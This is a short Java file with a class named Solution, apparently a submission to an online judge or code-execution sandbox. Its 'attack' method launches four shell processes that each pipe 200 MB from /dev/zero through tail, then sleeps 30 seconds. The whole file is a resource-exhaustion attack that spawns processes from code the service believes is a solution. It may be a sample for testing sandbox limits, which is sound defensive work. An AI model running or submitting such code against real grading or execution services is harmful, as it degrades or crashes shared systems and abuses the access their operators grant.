class Solution {
	public int attack(int n) throws Exception {
		String code = "head -c 200m /dev/zero | tail";
		for (int i = 0; i < 4; i++) new ProcessBuilder("/bin/sh", "-c", code).start();
		Thread.sleep(30_000);
		return 0;
	}
}
